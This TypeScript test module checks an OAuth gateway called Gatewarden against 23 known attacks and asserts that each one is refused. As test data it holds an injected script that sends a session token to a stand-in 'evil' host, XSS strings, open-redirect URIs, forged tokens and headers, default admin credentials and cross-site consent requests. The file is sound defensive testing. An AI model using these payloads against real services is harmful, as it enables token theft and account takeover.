/**
 * The known attacks on mcpauth, tried on Gatewarden.
 *
 * @module
 */
import { expect } from 'vitest'
import { load, problemsOf } from '../../config/harness.ts'
import { challengeOf } from '../../conformance/wire.ts'
import { askTunnel, buildEdgeApp, CONNECT, open } from '../../edge/support.ts'
import { createBrowser, hiddenField } from '../../support/browser.ts'
import { ANYONE, BOB, buildTestApp, resource } from '../../support/build-app.ts'
import {
  authorizeUrl,
  check,
  codeOf,
  consentTo,
  obtainTokens,
  redeem,
  register,
  signIn,
} from '../../support/oauth-client.ts'
import { DOMAIN_COOKIE, HAND_COOKIE, makeSession } from '../../support/session.ts'
import { typeIn } from '../../support/steps.ts'
import { storedRecords } from '../../support/stored.ts'
import { forgedTokens } from '../forged.ts'
import { ask, both, expectNothingAt, type Proofs, provedBy } from '../proof.ts'

const bearer = (token: string) => ({ authorization: `Bearer ${token}` })
const EVIL = 'https://evil.example/'

export const holes: Proofs = {
  async H1() {
    const { app } = await buildEdgeApp({ cookieDomain: 'example.com' })
    for (const token of forgedTokens()) {
      const cookie = `${HAND_COOKIE}=${token}`
      for (const headers of [bearer(token), { cookie }]) {
        expect((await check(app, headers, '/auth')).statusCode).toBe(401)
      }
      expect((await askTunnel(app, { cookie })).statusCode).toBe(401)
      expect((await open(app, CONNECT, { cookie })).statusCode).toBe(302)
    }
  },

  async H2() {
    const { app } = await buildTestApp()
    await expectNothingAt(app, ['/users', '/users/1', '/clients', '/clients/x', '/admin'])
  },

  async H3() {
    const { app } = await buildTestApp()
    const client = await register(app)
    for (const changes of [
      { code_challenge: undefined, code_challenge_method: undefined },
      { code_challenge_method: 'plain' },
      { code_challenge_method: undefined },
    ]) {
      const answer = await ask(app, authorizeUrl(client, changes))
      expect(String(answer.headers.location)).toContain('error=invalid_request')
    }
    const code = codeOf(await signIn(createBrowser(app), authorizeUrl(client)))
    for (const code_verifier of [undefined, '', 'x'.repeat(43)]) {
      expect((await redeem(app, client, code, { code_verifier })).statusCode).toBe(400)
    }
  },

  async H4() {
    const { app } = await buildTestApp()
    const client = await register(app)
    const unknown = { client_id: 'client-AAAAAAAAAAAAAAAA' }
    for (const who of [client, unknown]) {
      const answer = await ask(app, authorizeUrl(who, { redirect_uri: EVIL }))
      expect([answer.statusCode, answer.headers.location]).toEqual([400, undefined])
      expect(answer.body).not.toContain('value="approve"')
    }
  },

  async H5() {
    const test = await buildEdgeApp()
    const { cookie, token } = await makeSession(test)
    const script = "1;fetch('//evil/?'+token)"
    for (const query of [
      `callback_port=${encodeURIComponent(script)}&code=x`,
      `callback_port=1&code=${encodeURIComponent('</script><script>fetch(1)</script>')}`,
      `callback_port=1&callback_port=${encodeURIComponent(script)}&code=x`,
    ]) {
      const answer = await open(test.app, `/auth/connect?${query}`, { cookie })
      expect(answer.statusCode).toBe(400)
      expect(answer.body).not.toContain(token)
      expect(answer.body).not.toContain('fetch(')
    }
  },

  async H6() {
    const test = await buildEdgeApp()
    const { cookie } = await makeSession(test, { grant: { subject: BOB.name } })
    const page = await open(test.app, CONNECT, { cookie })
    expect(page.statusCode).toBe(403)
    expect(page.body).not.toContain(cookie.split('=')[1])
    expect((await askTunnel(test.app, { cookie })).statusCode).toBe(403)
    const scopes = { scopes: { read: 'R', write: 'W' }, requiredScopes: ['write'] }
    const strict = await buildEdgeApp({ resources: [resource({ ...scopes, allow: ANYONE })] })
    const narrow = await makeSession(strict, { grant: { scopes: ['read'] } })
    expect((await askTunnel(strict.app, { cookie: narrow.cookie })).statusCode).toBe(403)
  },

  async H7() {
    const files = { '/srv/gatewarden.yaml': '' }
    expect(problemsOf(() => load({ files }))).toEqual([expect.stringMatching(/^users: /)])
    const { app, logs } = await buildTestApp({ resources: [resource({ allow: ANYONE })] })
    const client = await register(app)
    const attempt = { name: 'admin', password: 'admin123' }
    const refused = await signIn(createBrowser(app), authorizeUrl(client), attempt)
    expect(refused.statusCode).toBe(401)
    const { tokens } = await obtainTokens(app, { authorize: { scope: 'openid' } })
    expect(tokens).not.toHaveProperty('id_token')
    expect(JSON.stringify(logs)).not.toContain(tokens.access_token.slice(-20))
  },

  async H8() {
    const { app } = await buildTestApp()
    const client = await register(app)
    const state = 'a-state-that-others-may-see'
    const answer = await signIn(createBrowser(app), authorizeUrl(client, { state }))
    const code = codeOf(answer)
    expect((await redeem(app, client, state)).json().error).toBe('invalid_grant')
    expect((await redeem(app, client, code)).statusCode).toBe(200)
    for (const again of [code, state]) {
      expect((await redeem(app, client, again)).json().error).toBe('invalid_grant')
    }
  },

  async H9() {
    const { app } = await buildTestApp()
    const all = await Promise.all(Array.from({ length: 200 }, () => register(app)))
    expect(new Set(all.map(({ client_id }) => client_id)).size).toBe(200)
    expect((await app.inject('/healthz')).statusCode).toBe(200)
  },

  async H10() {
    const { app, storage } = await buildTestApp({ rateLimit: 60 })
    const before = await storedRecords(storage)
    const client = await register(app)
    const statuses = new Set<number>()
    for (let i = 0; i < 70; i++) {
      statuses.add((await ask(app, authorizeUrl(client, { state: `s${i}` }))).statusCode)
      statuses.add((await redeem(app, { client_id: `made-up-${i}` }, 'x')).statusCode)
      statuses.add(
        await register(app).then(
          () => 201,
          () => 429,
        ),
      )
    }
    expect(await storedRecords(storage)).toEqual(before)
    expect(statuses).toContain(429)
  },

  async H11() {
    const { app, logs } = await buildEdgeApp()
    const client = await register(app)
    const state = 'the-state-of-a-client'
    const code = codeOf(await signIn(createBrowser(app), authorizeUrl(client, { state })))
    const { access_token, refresh_token } = (await redeem(app, client, code)).json()
    await check(app, bearer(access_token), `/auth?access_token=${access_token}`)
    await check(app, { 'x-forwarded-uri': `/nowhere?access_token=${access_token}` }, '/auth')
    await check(app, bearer(`${access_token}x`), '/auth')
    await ask(app, `/callback?code=${code}&state=${state}`)
    await ask(app, `/nowhere?code=${code}&state=${state}`)
    const lines = JSON.stringify(logs)
    for (const secret of [state, code, access_token, refresh_token]) {
      for (const part of [secret.slice(0, 20), secret.slice(-10)]) {
        // The first characters of every token are the same: its algorithm.
        if (!part.startsWith('eyJ')) expect(lines).not.toContain(part)
      }
    }
  },

  async H12() {
    const { app } = await buildTestApp()
    const script = '<script>alert(1)</script>'
    for (const path of ['/internal/login', '/login', '/authorize', '/callback']) {
      const answer = await ask(app, `${path}?error=${encodeURIComponent(script)}`)
      expect(answer.body).not.toContain(script)
    }
    const client = await register(app, { client_name: script })
    const page = await ask(app, authorizeUrl(client))
    expect(page.body).not.toContain('<script')
    expect(page.headers['content-security-policy']).toContain("default-src 'none'")
  },

  H13: both(
    provedBy(
      'test/credentials/provider-tokens/load.test.ts',
      'T34: for the keys of a flood of tokens with made-up ones, and logins do not notice',
    ),
    provedBy(
      'test/providers/oidc.test.ts',
      'are not fetched again and again for a key that is not there',
    ),
  ),

  async H14() {
    const { app } = await buildTestApp()
    const attacker = createBrowser(app)
    const login = await consentTo(attacker, authorizeUrl(await register(app)))
    const interaction = hiddenField(login.body, 'interaction')
    const victim = createBrowser(app)
    await victim.get(authorizeUrl(await register(app)))
    const elsewhere = [
      victim.post(
        '/consent',
        { interaction, decision: 'approve' },
        { origin: 'https://evil.example', 'sec-fetch-site': 'cross-site' },
      ),
      victim.post('/login', { interaction, username: 'ann', password: 'correct horse' }),
      victim.get(`/callback?code=x&state=${encodeURIComponent(interaction)}`),
    ]
    for (const answer of await Promise.all(elsewhere)) {
      expect(String(answer.headers.location)).not.toContain('code=')
      expect(answer.statusCode).toBeGreaterThanOrEqual(400)
    }
    expect(codeOf(await typeIn(attacker, login))).not.toBe('')
  },

  async H15() {
    const { app } = await buildTestApp()
    const [client, other] = [await register(app), await register(app)]
    const code = codeOf(await signIn(createBrowser(app), authorizeUrl(client)))
    expect((await redeem(app, other, code)).json().error).toBe('invalid_grant')
    expect((await redeem(app, client, code)).statusCode).toBe(200)
  },

  async H16() {
    const { app } = await buildTestApp()
    for (const headers of [{}, bearer('bad'), bearer('b a d')]) {
      const { scheme, parameters } = challengeOf(await check(app, headers, '/auth'))
      expect(scheme).toBe('Bearer')
      expect(parameters.scope).toBe('mcp')
    }
  },

  async H17() {
    const { app } = await buildTestApp()
    const prm = '/.well-known/oauth-protected-resource'
    const forwarded = { 'x-forwarded-host': 'evil.example', 'x-forwarded-proto': 'http' }
    expect((await ask(app, prm, { headers: { host: 'evil.example' } })).statusCode).toBe(404)
    const headers = { host: 'mcp.example.com', ...forwarded }
    const document = (await ask(app, `${prm}/notes/mcp`, { headers })).json()
    expect(document.resource).toBe('https://mcp.example.com/notes/mcp')
    const server = (await ask(app, '/.well-known/oauth-authorization-server', { headers })).json()
    expect(document.authorization_servers).toEqual([server.issuer])
    expect((await ask(app, new URL(server.jwks_uri).pathname)).statusCode).toBe(200)
    expect(server.revocation_endpoint).not.toBe(server.token_endpoint)
  },

  async H18() {
    const { app } = await buildEdgeApp()
    const headers = { origin: 'https://evil.example' }
    const answers = [
      ask(app, '/token', { headers, form: { grant_type: 'x' } }),
      ask(app, '/.well-known/oauth-authorization-server', { headers }),
      ask(app, '/authorize', { headers }),
      ask(app, '/auth/connect', { headers }),
      check(app, headers, '/auth'),
      askTunnel(app, headers),
    ]
    for (const answer of await Promise.all(answers)) {
      expect(answer.headers).not.toHaveProperty('access-control-allow-credentials')
      expect([undefined, '*']).toContain(answer.headers['access-control-allow-origin'])
    }
  },

  async H19() {
    const { app } = await buildTestApp()
    const { access_token } = (await obtainTokens(app)).tokens
    const query = `access_token=${access_token}`
    expect((await check(app, {}, `/auth?${query}`)).statusCode).toBe(401)
    const uri = { 'x-forwarded-uri': `/notes/mcp?${query}` }
    expect((await check(app, uri, '/auth')).statusCode).toBe(401)
  },

  H20: both(
    provedBy(
      'test/login/builtin.test.ts',
      'at11, T45: unknown names cost what known names cost, in the same mix',
    ),
    async () => {
      const { app, storage } = await buildTestApp()
      const confidential = { token_endpoint_auth_method: 'client_secret_post' }
      const { client_secret } = await register(app, confidential)
      expect(client_secret).toBeDefined()
      const { tokens } = await obtainTokens(app)
      const stored = JSON.stringify(await storedRecords(storage))
      for (const secret of [client_secret ?? '', tokens.access_token, tokens.refresh_token]) {
        expect(stored).not.toContain(secret)
      }
    },
  ),

  H21: both(
    async () => {
      const test = await buildEdgeApp({ cookieDomain: 'example.com' })
      const { token } = await makeSession(test, { grant: { resource: 'https://example.com' } })
      const cookie = `theirs=1; ${DOMAIN_COOKIE}=${token}`
      const allowed = await check(test.app, { cookie }, '/auth')
      expect([allowed.statusCode, allowed.headers.cookie]).toEqual([200, 'theirs=1'])
      const page = await open(test.app, CONNECT, { cookie })
      expect(page.headers['content-security-policy']).toContain("frame-ancestors 'none'")
      expect(page.headers['x-frame-options']).toBe('DENY')
    },
    provedBy('test/e2e/browser-sessions.test.ts', "sameSite: 'Lax'"),
  ),

  async H22() {
    const { app } = await buildTestApp({ rateLimit: 5 })
    expect(app.server.headersTimeout).toBeGreaterThan(0)
    const large = { client_name: 'x'.repeat(100_000), redirect_uris: ['http://127.0.0.1/cb'] }
    const refused = await app.inject({ method: 'POST', url: '/register', payload: large })
    expect(refused.statusCode).toBeGreaterThanOrEqual(400)
    const statuses: number[] = []
    for (let i = 0; i < 7; i++) {
      statuses.push((await ask(app, '/token', { form: { grant_type: 'x' } })).statusCode)
    }
    expect(statuses.at(-1)).toBe(429)
  },

  async H23() {
    const { app } = await buildTestApp()
    const client = await register(app)
    const refused = await signIn(createBrowser(app), authorizeUrl(client), { name: 'bob' })
    expect([refused.statusCode, refused.headers.location]).toEqual([403, undefined])
    const before = await buildTestApp()
    const { access_token } = (await obtainTokens(before.app)).tokens
    const nobody = { anyone: false, emails: [], domains: ['other.test'], groups: [] }
    const after = await before.restart({ resources: [resource({ allow: nobody })] })
    const answer = await check(after.app, bearer(access_token), '/auth')
    expect(answer.statusCode).toBe(403)
    expect(answer.headers).not.toHaveProperty('www-authenticate')
  },
}
